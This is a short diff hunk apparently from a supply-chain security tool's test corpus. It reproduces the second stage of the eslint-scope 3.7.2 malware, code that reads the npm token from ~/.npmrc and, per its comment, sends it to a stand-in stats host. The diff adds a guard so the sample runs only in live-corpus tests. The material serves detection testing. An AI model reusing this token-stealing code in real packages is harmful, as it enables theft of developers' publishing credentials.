@@ -1,6 +1,8 @@
 // Stage 2 of eslint-scope 3.7.2 as served from pastebin: read the npm token from ~/.npmrc and
 // send it as the referrer of a request to histats/statcounter (the loopback C2 here).
 (function () {
+  // Served by the stand-in only; still, nothing outside the live-corpus tests.
+  if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') return;
   var path = require('os').homedir() + '/.npmrc';
   var content = 'nofile';
   try { content = require('fs').readFileSync(path, 'utf8'); } catch (e) {}
